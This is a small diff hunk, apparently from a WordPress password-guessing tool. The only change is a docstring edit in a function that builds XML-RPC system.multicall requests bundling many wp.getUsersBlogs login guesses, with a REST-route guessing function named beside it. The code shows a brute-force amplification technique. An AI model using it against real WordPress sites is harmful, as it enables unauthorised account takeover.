@@ -162,7 +162,7 @@ def rest_guess(user: str, password: str, target: str = "/?rest_route=/wp/v2/user
 
 
 def multicall(user: str, passwords: Sequence[str]) -> bytes:
-    """One call of XML-RPC with so many guesses."""
+    """One call of XML-RPC with this many guesses."""
     calls = "".join(
         "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>"
         "<member><name>params</name><value><array><data><value><array><data>"
